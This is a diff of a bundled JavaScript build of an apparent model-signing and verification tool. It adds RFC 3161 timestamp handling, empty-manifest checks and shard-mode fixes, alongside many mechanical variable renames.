@@ -38983,7 +39001,7 @@ var require_write = __commonJS({
     }
     async function makeTmp(cache, opts) {
       const tmpTarget = tmpName(cache, opts.tmpPrefix);
-      await fs2.mkdir(path25.dirname(tmpTarget), { recursive: true });
+      await fs2.mkdir(path26.dirname(tmpTarget), { recursive: true });
       return {
         target: tmpTarget,
         moved: false
@@ -38991,7 +39009,7 @@ var require_write = __commonJS({
     }
     async function moveToDestination(tmp, cache, sri) {
       const destination = contentPath(cache, sri);
-      const destDir = path25.dirname(destination);
+      const destDir = path26.dirname(destination);
       if (moveOperations.has(destination)) {
         return moveOperations.get(destination);
       }
@@ -42125,9 +42143,9 @@ var require_glob = __commonJS({
   "node_modules/cacache/lib/util/glob.js"(exports, module) {
     "use strict";
     var { glob } = require_index_min2();
-    var path25 = __require("path");
-    var globify = (pattern) => pattern.split(path25.win32.sep).join(path25.posix.sep);
-    module.exports = (path26, options) => glob(globify(path26), options);
+    var path26 = __require("path");
+    var globify = (pattern) => pattern.split(path26.win32.sep).join(path26.posix.sep);
+    module.exports = (path27, options) => glob(globify(path27), options);
   }
 });
 
@@ -42159,7 +42177,7 @@ var require_rm2 = __commonJS({
     var glob = require_glob();
     var index = require_entry_index();
     var memo = require_memoization();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var rmContent = require_rm();
     module.exports = entry;
     module.exports.entry = entry;
@@ -42175,7 +42193,7 @@ var require_rm2 = __commonJS({
     module.exports.all = all;
     async function all(cache) {
       memo.clearMemoized();
-      const paths = await glob(path25.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
+      const paths = await glob(path26.join(cache, "*(content-*|index-*)"), { silent: true, nosort: true });
       return Promise.all(paths.map((p2) => rm4(p2, { recursive: true, force: true })));
     }
   }
@@ -42197,7 +42215,7 @@ var require_verify2 = __commonJS({
     var fsm = require_lib6();
     var glob = require_glob();
     var index = require_entry_index();
-    var path25 = __require("path");
+    var path26 = __require("path");
     var ssri = require_lib4();
     var hasOwnProperty = (obj, key) => Object.prototype.hasOwnProperty.call(obj, key);
     var verifyOpts = (opts) => ({
@@ -42274,7 +42292,7 @@ var require_verify2 = __commonJS({
         indexStream.on("end", resolve).on("error", reject2);
       });
       const contentDir = contentPath.contentDir(cache);
-      const files = await glob(path25.join(contentDir, "**"), {
+      const files = await glob(path26.join(contentDir, "**"), {
         follow: false,
         nodir: true,
         nosort: true
@@ -42395,16 +42413,16 @@ var require_verify2 = __commonJS({
     }
     function cleanTmp(cache, opts) {
       opts.log.silly("verify", "cleaning tmp directory");
-      return rm4(path25.join(cache, "tmp"), { recursive: true, force: true });
+      return rm4(path26.join(cache, "tmp"), { recursive: true, force: true });
     }
     async function writeVerifile(cache, opts) {
-      const verifile = path25.join(cache, "_lastverified");
+      const verifile = path26.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
       return writeFile5(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
-      const data = await readFile2(path25.join(cache, "_lastverified"), { encoding: "utf8" });
+      const data = await readFile2(path26.join(cache, "_lastverified"), { encoding: "utf8" });
       return /* @__PURE__ */ new Date(+data);
     }
   }
@@ -42854,22 +42872,22 @@ var require_matchers = __commonJS({
     };
     var DEEP_HEADER_AUTHORIZATION = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.authorization"),
+      predicate: ({ path: path26 }) => path26.endsWith(".headers.authorization"),
       replacement: "[REDACTED_HEADER_AUTHORIZATION]"
     };
     var DEEP_HEADER_SET_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.set-cookie"),
+      predicate: ({ path: path26 }) => path26.endsWith(".headers.set-cookie"),
       replacement: "[REDACTED_HEADER_SET_COOKIE]"
     };
     var DEEP_HEADER_COOKIE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".headers.cookie"),
+      predicate: ({ path: path26 }) => path26.endsWith(".headers.cookie"),
       replacement: "[REDACTED_HEADER_COOKIE]"
     };
     var REWRITE_REQUEST = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".request"),
+      predicate: ({ path: path26 }) => path26.endsWith(".request"),
       replacement: (input) => ({
         method: input?.method,
         path: input?.path,
@@ -42879,7 +42897,7 @@ var require_matchers = __commonJS({
     };
     var REWRITE_RESPONSE = {
       type: TYPE_PATH,
-      predicate: ({ path: path25 }) => path25.endsWith(".response"),
+      predicate: ({ path: path26 }) => path26.endsWith(".response"),
       replacement: (input) => ({
         data: input?.data,
         status: input?.status,
@@ -42920,8 +42938,8 @@ var require_utils2 = __commonJS({
       }
       return "*".repeat(length);
     };
-    var escapeRegExp = (text) => {
-      return text.replace(/[-[\]{}()*+?.,\\^$|#\s]/g, `\\$&`);
+    var escapeRegExp = (text2) => {
+      return text2.replace(/[-[\]{}()*+?.,\\^$|#\s]/g, `\\$&`);
     };
     var urlEncodeRegexGroup = (value) => {
       const decoded = decodeURIComponent(value);
@@ -42995,12 +43013,12 @@ var require_utils2 = __commonJS({
       },
       [TYPE_PATH]: (matcher) => (value, ctx) => {
         const rawPath = ctx?.path;
-        const path25 = rawPath.join(".").toLowerCase();
+        const path26 = rawPath.join(".").toLowerCase();
         const { predicate, replacement } = matcher;
         const replace = typeof replacement === "function" ? replacement : () => replacement;
-        const shouldRun = predicate({ rawPath, path: path25 });
+        const shouldRun = predicate({ rawPath, path: path26 });
         if (shouldRun) {
-          value = replace(value, { rawPath, path: path25 });
+          value = replace(value, { rawPath, path: path26 });
         }
         return value;
       }
@@ -49046,7 +49064,7 @@ var require_package3 = __commonJS({
 var require_remote = __commonJS({
   "node_modules/make-fetch-happen/lib/remote.js"(exports, module) {
     var { Minipass } = require_commonjs4();
-    var fetch = require_lib3();
+    var fetch2 = require_lib3();
     var { promiseRetry } = require_lib8();
     var ssri = require_lib4();
     var { log } = require_lib9();
@@ -49091,10 +49109,10 @@ var require_remote = __commonJS({
         redirect: "manual"
       };
       return promiseRetry(async (retryHandler, attemptNum) => {
-        const req = new fetch.Request(request, _opts);
+        const req = new fetch2.Request(request, _opts);
         const url = cleanUrl(req.url);
         try {
-          let res = await fetch(req, _opts);
+          let res = await fetch2(req, _opts);
           if (_opts.integrity && res.status === 200) {
             const integrityStream = ssri.integrityStream({
               algorithms: _opts.algorithms,
@@ -49106,7 +49124,7 @@ var require_remote = __commonJS({
             }, res.body, integrityStream);
             integrityStream.on("integrity", (i) => pipeline.emit("integrity", i));
             integrityStream.on("size", (s3) => pipeline.emit("size", s3));
-            res = new fetch.Response(pipeline, res);
+            res = new fetch2.Response(pipeline, res);
             res.body.hasIntegrityEmitter = true;
           }
           res.headers.set("x-fetch-attempts", attemptNum);
@@ -49122,7 +49140,7 @@ var require_remote = __commonJS({
           return res;
         } catch (err) {
           const code = err.code === "EPROMISERETRY" ? err.retried.code : err.code;
-          const isRetryError = err.retried instanceof fetch.Response || RETRY_ERRORS.includes(code) && RETRY_TYPES.includes(err.type);
+          const isRetryError = err.retried instanceof fetch2.Response || RETRY_ERRORS.includes(code) && RETRY_TYPES.includes(err.type);
           if (req.method === "POST" || isRetryError) {
             throw err;
           }
@@ -49586,7 +49604,7 @@ var require_fetch = __commonJS({
         options: _opts
       };
     };
-    var fetch = async (request, options) => {
+    var fetch2 = async (request, options) => {
       const response = CachePolicy.storable(request, options) ? await cache(request, options) : await remote(request, options);
       if (!["GET", "HEAD"].includes(request.method) && response.status >= 200 && response.status <= 399) {
         await cache.invalidate(request, options);
@@ -49595,9 +49613,9 @@ var require_fetch = __commonJS({
         return response;
       }
       const redirect = getRedirect(request, response, options);
-      return fetch(redirect.request, redirect.options);
+      return fetch2(redirect.request, redirect.options);
     };
-    module.exports = fetch;
+    module.exports = fetch2;
   }
 });
 
@@ -49606,11 +49624,11 @@ var require_lib12 = __commonJS({
   "node_modules/make-fetch-happen/lib/index.js"(exports, module) {
     var { FetchError, Headers, Request, Response } = require_lib3();
     var configureOptions = require_options();
-    var fetch = require_fetch();
+    var fetch2 = require_fetch();
     var makeFetchHappen = (url, opts) => {
       const options = configureOptions(opts);
       const request = new Request(url, options);
-      return fetch(request, options);
+      return fetch2(request, options);
     };
     makeFetchHappen.defaults = (defaultUrl, defaultOptions = {}, wrappedFetch = makeFetchHappen) => {
       if (typeof defaultUrl === "object") {
@@ -50064,14 +50082,14 @@ var require_url = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.join = join2;
     var url_1 = __require("url");
-    function join2(base2, path25) {
-      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path25)).toString();
+    function join2(base2, path26) {
+      return new url_1.URL(ensureTrailingSlash(base2) + removeLeadingSlash(path26)).toString();
     }
-    function ensureTrailingSlash(path25) {
-      return path25.endsWith("/") ? path25 : path25 + "/";
+    function ensureTrailingSlash(path26) {
+      return path26.endsWith("/") ? path26 : path26 + "/";
     }
-    function removeLeadingSlash(path25) {
-      return path25.startsWith("/") ? path25.slice(1) : path25;
+    function removeLeadingSlash(path26) {
+      return path26.startsWith("/") ? path26.slice(1) : path26;
     }
   }
 });
@@ -50125,7 +50143,7 @@ var require_updater = __commonJS({
     var models_1 = require_dist5();
     var debug_1 = __importDefault(require_src());
     var fs2 = __importStar(__require("fs"));
-    var path25 = __importStar(__require("path"));
+    var path26 = __importStar(__require("path"));
     var package_json_1 = require_package4();
     var config_1 = require_config();
     var error_1 = require_error6();
@@ -50197,7 +50215,7 @@ var require_updater = __commonJS({
         const consistentSnapshot = this.trustedSet.root.signed.consistentSnapshot;
         if (consistentSnapshot && this.config.prefixTargetsWithHash) {
           const hashes = Object.values(targetInfo.hashes);
-          const { dir, base: base2 } = path25.parse(targetFilePath);
+          const { dir, base: base2 } = path26.parse(targetFilePath);
           const filename = `${hashes[0]}.${base2}`;
           targetFilePath = dir ? `${dir}/${filename}` : filename;
         }
@@ -50224,7 +50242,7 @@ var require_updater = __commonJS({
         return;
       }
       loadLocalMetadata(fileName) {
-        const filePath = path25.join(this.dir, `${fileName}.json`);
+        const filePath = path26.join(this.dir, `${fileName}.json`);
         log("READ %s", filePath);
         return fs2.readFileSync(filePath);
       }
@@ -50371,12 +50389,12 @@ var require_updater = __commonJS({
           throw new error_1.ValueError("Target directory not set");
         }
         const filePath = encodeURIComponent(targetInfo.path);
-        return path25.join(this.targetDir, filePath);
+        return path26.join(this.targetDir, filePath);
       }
       persistMetadata(metaDataName, bytesData) {
         const encodedName = encodeURIComponent(metaDataName);
         try {
-          const filePath = path25.join(this.dir, `${encodedName}.json`);
+          const filePath = path26.join(this.dir, `${encodedName}.json`);
           log("WRITE %s", filePath);
           fs2.writeFileSync(filePath, bytesData.toString("utf8"));
         } catch (error) {
@@ -50488,13 +50506,13 @@ var require_target = __commonJS({
     var fs_1 = __importDefault(__require("fs"));
     var error_1 = require_error7();
     async function readTarget(tuf, targetPath) {
-      const path25 = await getTargetPath(tuf, targetPath);
+      const path26 = await getTargetPath(tuf, targetPath);
       return new Promise((resolve, reject2) => {
-        fs_1.default.readFile(path25, "utf-8", (err, data) => {
+        fs_1.default.readFile(path26, "utf-8", (err, data) => {
           if (err) {
             reject2(new error_1.TUFError({
               code: "TUF_READ_TARGET_ERROR",
-              message: `error reading target ${path25}`,
+              message: `error reading target ${path26}`,
               cause: err
             }));
           } else {
@@ -50520,19 +50538,19 @@ var require_target = __commonJS({
           message: `target ${target} not found`
         });
       }
-      let path25 = await tuf.findCachedTarget(targetInfo);
-      if (!path25) {
+      let path26 = await tuf.findCachedTarget(targetInfo);
+      if (!path26) {
         try {
-          path25 = await tuf.downloadTarget(targetInfo);
+          path26 = await tuf.downloadTarget(targetInfo);
         } catch (err) {
           throw new error_1.TUFError({
             code: "TUF_DOWNLOAD_TARGET_ERROR",
-            message: `error downloading target ${path25}`,
+            message: `error downloading target ${path26}`,
             cause: err
           });
         }
       }
-      return path25;
+      return path26;
     }
   }
 });
@@ -50693,11 +50711,11 @@ function cacheDir() {
 function cachedTrustedRootPath() {
   return path6.join(cacheDir(), "trusted_root.json");
 }
-async function parseTrustedRoot(text, source) {
+async function parseTrustedRoot(text2, source) {
   const [{ TrustedRoot }, { toTrustMaterial }] = await Promise.all([Promise.resolve().then(() => __toESM(require_dist3(), 1)), Promise.resolve().then(() => __toESM(require_dist4(), 1))]);
   let json;
   try {
-    json = parseStrictJson(text, { what: `trusted root ${source}`, code: "TRUSTED_ROOT_INVALID" });
+    json = parseStrictJson(text2, { what: `trusted root ${source}`, code: "TRUSTED_ROOT_INVALID" });
   } catch (e) {
     throw usage("TRUSTED_ROOT_INVALID", e.message);
   }
@@ -50754,7 +50772,7 @@ async function updateTrustedRoot(opts) {
   });
   if (opts.tufRoot !== void 0) await readBounded(opts.tufRoot, "TUF root");
   const { initTUF } = await Promise.resolve().then(() => __toESM(require_dist12(), 1));
-  let text;
+  let text2;
   try {
     const tuf = await initTUF({
       mirrorURL: mirror,
@@ -50763,15 +50781,15 @@ async function updateTrustedRoot(opts) {
       retry: false,
       timeout: opts.timeoutMs ?? 1e4
     });
-    text = await tuf.getTarget("trusted_root.json");
+    text2 = await tuf.getTarget("trusted_root.json");
   } catch (e) {
     if (e instanceof ModelsignError) throw e;
     const cause = e instanceof Error ? e.message : String(e);
     throw new ModelsignError("TUF_UPDATE_FAILED", `cannot refresh the trusted root from ${mirror} (no network?): ${cause.split("\n")[0]}; the root in use is unchanged`, { kind: "reject" });
   }
-  const root = await parseTrustedRoot(text, `TUF ${mirror}`);
+  const root = await parseTrustedRoot(text2, `TUF ${mirror}`);
   await mkdir2(path6.dirname(out2), { recursive: true }).catch(() => void 0);
-  await writeAtomic(out2, text.endsWith("\n") ? text : `${text}
+  await writeAtomic(out2, text2.endsWith("\n") ? text2 : `${text2}
 `);
   return { out: out2, source: mirror, root };
 }
@@ -51460,7 +51478,7 @@ var init_stage = __esm({
     init_metadata();
     init_one_line();
     MAX_ANCESTORS = 1e4;
-    clean3 = (text, max = 120) => clean(text, max);
+    clean3 = (text2, max = 120) => clean(text2, max);
   }
 });
 
@@ -51540,8 +51558,8 @@ function isIgnored(name2, ignorePaths) {
   }
   return false;
 }
-function effectiveIgnores(model, signaturePath, signed, user) {
-  const out2 = new Set([...DEFAULT_IGNORES, ...signed ?? [], ...user].map(normaliseIgnorePath));
+function effectiveIgnores(model, signaturePath, signed, user, gitPaths = true) {
+  const out2 = new Set([...gitPaths ? DEFAULT_IGNORES : [], ...signed ?? [], ...user].map(normaliseIgnorePath));
   const rel = path7.relative(path7.resolve(model), path7.resolve(signaturePath));
   if (rel && !rel.startsWith("..") && !path7.isAbsolute(rel)) out2.add(rel.split(path7.sep).join("/"));
   return [...out2].filter((p2) => p2 !== "" && p2 !== ".");
@@ -52795,7 +52813,7 @@ function rangeKey(name2, start, end) {
 }
 function plannedRanges(method, shardSize, size) {
   if (method === "files" || !shardSize) return [[0, size]];
-  if (size === 0) return [[0, 0]];
+  if (size === 0) return [];
   const out2 = [];
   for (let s3 = 0; s3 < size; s3 += shardSize) out2.push([s3, Math.min(size, s3 + shardSize)]);
   return out2;
@@ -53001,6 +53019,7 @@ async function checkFiles(input) {
   }
   if (!input.ignoreUnsignedFiles) {
     for (const f2 of listing.files) {
+      if (ser.method === "shards" && f2.size === 0) continue;
       if (!byFile.has(f2.name)) failures.push({ code: "FILE_UNEXPECTED", path: f2.name, message: "file is not in the signature" });
     }
   }
@@ -54341,20 +54360,20 @@ async function checkSafetensors(src, size, file, limits, member) {
     return findings;
   }
   const raw = await src.read(hlen);
-  let text;
+  let text2;
   try {
-    text = utf82.decode(raw);
+    text2 = utf82.decode(raw);
   } catch {
     add("SAFETENSORS_HEADER_JSON", "header is not valid UTF-8");
     return findings;
   }
-  if (!text.startsWith("{")) {
+  if (!text2.startsWith("{")) {
     add("SAFETENSORS_HEADER_JSON", 'header does not start with "{"');
     return findings;
   }
   let header;
   try {
-    header = parseStrictJson(text, { what: "safetensors header", code: "SAFETENSORS_HEADER_JSON", maxDepth: 8 });
+    header = parseStrictJson(text2, { what: "safetensors header", code: "SAFETENSORS_HEADER_JSON", maxDepth: 8 });
   } catch (e) {
     if (e instanceof ModelsignError) {
       add(/duplicate key/.test(e.message) ? "SAFETENSORS_DUPLICATE_KEY" : "SAFETENSORS_HEADER_JSON", e.message);
@@ -57788,9 +57807,9 @@ function notePrefixes(Header) {
   if (prefixesNoted) return;
   prefixesNoted = true;
   const proto = Header.prototype;
-  const decode = proto.decode;
+  const decode2 = proto.decode;
   proto.decode = function(buf, off = 0, ...rest) {
-    decode.call(this, buf, off, ...rest);
+    decode2.call(this, buf, off, ...rest);
     if (buf.length >= off + 512 && buf[off + 345] !== 0 && buf.toString("latin1", off + 257, off + 265) !== "ustar\x0000") this[IGNORED_PREFIX] = true;
   };
 }
@@ -58627,7 +58646,8 @@ var init_dsse = __esm({
 // src/oms/bundle.ts
 import { stat as stat6 } from "node:fs/promises";
 function buildBundle(input) {
-  const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [] } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [] };
+  const stamps = input.timestamps?.length ? { timestampVerificationData: { rfc3161Timestamps: input.timestamps.map((t) => ({ signedTimestamp: t.toString("base64") })) } } : {};
+  const verificationMaterial = "publicKeyHint" in input.material ? { publicKey: { hint: input.material.publicKeyHint }, tlogEntries: [], ...stamps } : { x509CertificateChain: { certificates: input.material.certificates.map((c) => ({ rawBytes: c.toString("base64") })) }, tlogEntries: [], ...stamps };
   return {
     mediaType: BUNDLE_MEDIA_TYPE,
     verificationMaterial,
@@ -58665,13 +58685,13 @@ function bad2(msg) {
 function parseBundle(bytes) {
   if (bytes.length === 0) bad2("file is empty");
   if (bytes.length > MAX_BUNDLE_BYTES) throw reject("SIG_TOO_LARGE", `signature bundle is larger than ${MAX_BUNDLE_BYTES} bytes`);
-  let text;
+  let text2;
   try {
-    text = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
+    text2 = new TextDecoder("utf-8", { fatal: true }).decode(bytes);
   } catch {
     bad2("not UTF-8");
   }
-  const json = parseStrictJson(text, { what: "signature bundle", code: "SIG_MALFORMED" });
+  const json = parseStrictJson(text2, { what: "signature bundle", code: "SIG_MALFORMED" });
   if (!isObject(json)) bad2("not a JSON object");
   const mediaType = json.mediaType;
   if (typeof mediaType !== "string" || !mediaType.startsWith("application/vnd.dev.sigstore.bundle")) bad2("missing or unknown mediaType");
@@ -58939,13 +58959,13 @@ function parseMetadata(subject) {
   return { ...m2, name: typeof m2.name === "string" ? m2.name : str(subject.name, "subject.name") };
 }
 function parseStatement(payload) {
-  let text;
+  let text2;
   try {
-    text = new TextDecoder("utf-8", { fatal: true }).decode(payload);
+    text2 = new TextDecoder("utf-8", { fatal: true }).decode(payload);
   } catch {
     bad3("payload is not UTF-8");
   }
-  const st2 = parseStrictJson(text, { what: "signed statement", code: "STATEMENT_MALFORMED" });
+  const st2 = parseStrictJson(text2, { what: "signed statement", code: "STATEMENT_MALFORMED" });
   if (!isObject(st2)) bad3("not a JSON object");
   if (st2._type !== STATEMENT_TYPE) bad3(`_type is ${JSON.stringify(st2._type)}, expected ${STATEMENT_TYPE}`);
   if (st2.predicateType === LEGACY_PREDICATE_TYPE) {
@@ -58984,14 +59004,14 @@ var init_statement = __esm({
 });
 
 // src/verify/names.ts
-function checkResourceNames(names) {
+function checkResourceNames(names, pathOf = (n) => n) {
   if (names.length === 1 && names[0] === ".") return [];
   const failures = [];
   const seen = /* @__PURE__ */ new Set();
   const nfc = /* @__PURE__ */ new Map();
   const folded = /* @__PURE__ */ new Map();
   for (const name2 of names) {
-    const why2 = unsafeNameReason(name2);
+    const why2 = unsafeNameReason(pathOf(name2));
     if (why2) {
       failures.push({ code: "UNSAFE_NAME", path: name2, message: `unsafe resource name in signature: ${why2}` });
       continue;
@@ -59109,7 +59129,9 @@ async function verifyModel(opts) {
     result.metadata = statement.metadata;
     result.serialization = statement.serialization;
     result.rootDigest = statement.rootDigest;
-    const nameFailures = checkResourceNames(statement.resources.map((r) => r.name));
+    if (statement.resources.length === 0) throw reject("EMPTY_MANIFEST", "the signature lists no file: it covers nothing");
+    const shardPath = statement.serialization.method === "shards" ? (n) => parseShardName(n)?.path ?? n : void 0;
+    const nameFailures = checkResourceNames(statement.resources.map((r) => r.name), shardPath);
     if (nameFailures.length > 0) {
       for (const f2 of nameFailures) result.failures.push(f2);
       return result;
@@ -59430,7 +59452,7 @@ async function walkLineage(opts) {
     }
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
-    const path25 = new Set(onPath).add(link.rootDigest);
+    const path26 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver6.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -59442,7 +59464,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path25, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path26, nextBelow));
     }
     return node;
   };
@@ -59466,10 +59488,10 @@ var init_walk = __esm({
 });
 
 // src/lineage/revoked.ts
-function parseRevokedList(text, source = "revocation list") {
+function parseRevokedList(text2, source = "revocation list") {
   const digests = /* @__PURE__ */ new Set();
   const reasons = /* @__PURE__ */ new Map();
-  const lines = text.split(/\r?\n/);
+  const lines = text2.split(/\r?\n/);
   lines.forEach((raw, i) => {
     const hash = raw.indexOf("#");
     const body = (hash >= 0 ? raw.slice(0, hash) : raw).trim();
@@ -59529,8 +59551,8 @@ import { open as open5, rename as rename2, stat as stat8, unlink as unlink4 } fr
 function bad4(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
 }
-function parseState(text, file) {
-  const j2 = parseStrictJson(text, { what: `state file ${file}`, code: "STATE_CORRUPT" });
+function parseState(text2, file) {
+  const j2 = parseStrictJson(text2, { what: `state file ${file}`, code: "STATE_CORRUPT" });
   if (!isObject(j2)) bad4(file, "not a JSON object");
   if (j2.schema !== STATE_SCHEMA) bad4(file, `schema is not ${STATE_SCHEMA}`);
   if (!isObject(j2.models)) bad4(file, "models must be an object");
@@ -59934,6 +59956,115 @@ var init_append = __esm({
   }
 });
 
+// src/verify/timestamp.ts
+var timestamp_exports = {};
+__export(timestamp_exports, {
+  bundleTimestamps: () => bundleTimestamps,
+  timestampAuthorityTrust: () => timestampAuthorityTrust,
+  withTimestamps: () => withTimestamps
+});
+function bundleTimestamps(bundle) {
+  const vm = isObject(bundle.json) ? bundle.json.verificationMaterial : void 0;
+  const tvd = isObject(vm) ? vm.timestampVerificationData : void 0;
+  const list2 = isObject(tvd) ? tvd.rfc3161Timestamps : void 0;
+  if (list2 === void 0) return [];
+  if (!Array.isArray(list2)) throw reject("TIMESTAMP_INVALID", "timestampVerificationData.rfc3161Timestamps is not a list");
+  if (list2.length > MAX_TIMESTAMPS) throw reject("TIMESTAMP_INVALID", `the signature carries ${list2.length} timestamps (at most ${MAX_TIMESTAMPS} are read)`);
+  return list2.map((t, i) => {
+    if (!isObject(t) || typeof t.signedTimestamp !== "string" || t.signedTimestamp === "") throw reject("TIMESTAMP_INVALID", `timestamp ${i} has no signedTimestamp`);
+    return t.signedTimestamp;
+  });
+}
+async function loadChain(file, core2) {
+  const buf = await readUserFile(file, MAX_TSA_FILE, "TSA_UNREADABLE", "timestamp authority file");
+  const blocks = findPemBlocks(buf.toString("utf8")).filter((b2) => b2.type === "CERTIFICATE");
+  if (blocks.length === 0) throw usage("TSA_UNREADABLE", `${file} holds no PEM certificate (it needs the TSA's signing certificate, then its chain)`);
+  const certChain = blocks.map((b2) => {
+    try {
+      return core2.X509Certificate.parse(b2.der);
+    } catch (e) {
+      throw usage("TSA_UNREADABLE", `${file} holds a malformed certificate: ${e.message}`);
+    }
+  });
+  const leaf = certChain[0];
+  return { certChain, validFor: { start: leaf.notBefore, end: leaf.notAfter } };
+}
+async function timestampAuthorityTrust(files) {
+  if (files.length === 0) throw usage("MISSING_OPTION", "timestamp trust needs at least one timestamp authority file");
+  const [core2, { Verifier }] = await Promise.all([Promise.resolve().then(() => __toESM(require_dist2(), 1)), Promise.resolve().then(() => __toESM(require_dist4(), 1))]);
+  const timestampAuthorities = await Promise.all(files.map((f2) => loadChain(f2, core2)));
+  const label = files.join(", ");
+  return {
+    label,
+    async verifiedTimes(bundle) {
+      const stamps = bundleTimestamps(bundle);
+      if (stamps.length === 0) return [];
+      if (bundle.signatures.length !== 1) throw reject("TIMESTAMP_INVALID", `a timestamped signature must hold exactly one DSSE signature (it holds ${bundle.signatures.length})`);
+      const times = [];
+      for (const [i, b64] of stamps.entries()) {
+        let ts2;
+        try {
+          ts2 = core2.RFC3161Timestamp.parse(Buffer.from(b64, "base64"));
+          void ts2.signingTime;
+        } catch (e) {
+          throw reject("TIMESTAMP_INVALID", `timestamp ${i} is malformed: ${e.message}`);
+        }
+        const material = { certificateAuthorities: [], timestampAuthorities, tlogs: [], ctlogs: [], publicKey: () => ({ publicKey: void 0, validFor: () => true }) };
+        const entity = {
+          signature: { signature: bundle.signatures[0].sig, compareSignature: () => true, compareDigest: () => true, verifySignature: () => true },
+          key: { $case: "public-key", hint: "" },
+          tlogEntries: [],
+          timestamps: [{ $case: "timestamp-authority", timestamp: ts2 }]
+        };
+        try {
+          new Verifier(material, { tlogThreshold: 0, ctlogThreshold: 0, timestampThreshold: 1 }).verify(entity);
+        } catch (e) {
+          throw reject("TIMESTAMP_INVALID", `timestamp ${i} (${ts2.signingTime.toISOString()}) is not from a trusted timestamp authority (${label}) or does not cover this signature: ${e.message}`);
+        }
+        times.push(ts2.signingTime);
+      }
+      return times;
+    }
+  };
+}
+function withTimestamps(check, tsa) {
+  if (check.kind === "sigstore") return check;
+  return {
+    label: check.label,
+    ...check.kind !== void 0 ? { kind: check.kind } : {},
+    async verify(bundle, pae2, context) {
+      if (!tsa) {
+        try {
+          return await check.verify(bundle, pae2, context);
+        } catch (e) {
+          if (e instanceof ModelsignError && judgedAtTime.has(e.code) && bundleTimestamps(bundle).length > 0) {
+            throw reject(e.code, `${e.message}; the signature carries an RFC 3161 timestamp, which is used only with --timestamp-authority TSA_CHAIN.pem`);
+          }
+          throw e;
+        }
+      }
+      const times = await tsa.verifiedTimes(bundle);
+      if (times.length === 0) return check.verify(bundle, pae2, context);
+      const signer = await check.verify(bundle, pae2, { ...context, signedTimes: times });
+      const first = new Date(Math.min(...times.map((t) => t.getTime()))).toISOString();
+      return { ...signer, signedAt: first, description: `${signer.description}, time-stamped ${first}` };
+    }
+  };
+}
+var MAX_TSA_FILE, MAX_TIMESTAMPS, judgedAtTime;
+var init_timestamp = __esm({
+  "src/verify/timestamp.ts"() {
+    "use strict";
+    init_errors();
+    init_pem();
+    init_strict_json();
+    init_read_file();
+    MAX_TSA_FILE = 4 * 1024 * 1024;
+    MAX_TIMESTAMPS = 8;
+    judgedAtTime = /* @__PURE__ */ new Set(["CERT_EXPIRED", "CERT_NOT_YET_VALID"]);
+  }
+});
+
 // src/sign/budget.ts
 function resourcesOf(size, shardSize) {
   return shardSize === void 0 || size === 0 ? 1 : Math.ceil(size / shardSize);
@@ -60043,7 +60174,7 @@ async function digestModel(opts) {
   const hash = opts.hash ?? "sha256";
   const budget = opts.budget ?? new SizeBudget(hash, opts.shardSize);
   const sigPath = opts.signature ?? await defaultSignaturePath(opts.model);
-  const ignorePaths = effectiveIgnores(opts.model, sigPath, void 0, opts.ignorePaths ?? []);
+  const ignorePaths = effectiveIgnores(opts.model, sigPath, void 0, opts.ignorePaths ?? [], opts.ignoreGitPaths ?? true);
   if (opts.shardSize !== void 0 && (!Number.isSafeInteger(opts.shardSize) || opts.shardSize <= 0)) {
     throw usage("BAD_SHARD_SIZE", "--shard-size must be a positive whole number of bytes");
   }
@@ -60072,6 +60203,7 @@ async function digestModel(opts) {
     const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
     throw usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
   }
+  if (listing.files.length === 0) throw usage("EMPTY_MODEL", `${displayPath(opts.model)}: no file to sign after exclusions (${ignorePaths.join(", ")})`);
   if (!pre) {
     for (const f2 of listing.files) budget.add(f2.name, f2.size);
     budget.check();
@@ -60082,6 +60214,7 @@ async function digestModel(opts) {
     if (!o.ok) throw usage(o.code, `${p2.file.name}: ${o.message}`, p2.file.name);
     return { name: p2.name, algorithm: hash, digest: o.digest };
   }) : await hashResources(plans, hash, opts.engine);
+  if (resources.length === 0) throw usage("EMPTY_MODEL", `${displayPath(opts.model)}: every file is empty, and the shards method omits empty files (OMS \xA76.3.2); sign without --shard-size`);
   const serialization = { method, hash_type: hash, allow_symlinks: opts.allowSymlinks ?? false };
   if (method === "shards") serialization.shard_size = opts.shardSize;
   serialization.ignore_paths = ignorePaths;
@@ -60103,6 +60236,651 @@ var init_digest = __esm({
   }
 });
 
+// src/keys/pkcs11-uri.ts
+function isPkcs11Uri(s3) {
+  return /^pkcs11:/i.test(s3);
+}
+function redactPkcs11Uri(uri) {
+  return uri.replace(/pin-value[^&;?]*/gi, "pin-value=<redacted>");
+}
+function decode(raw, name2, shown) {
+  const out2 = [];
+  for (let i = 0; i < raw.length; i++) {
+    const c = raw[i];
+    if (c === "%") {
+      const hex = raw.slice(i + 1, i + 3);
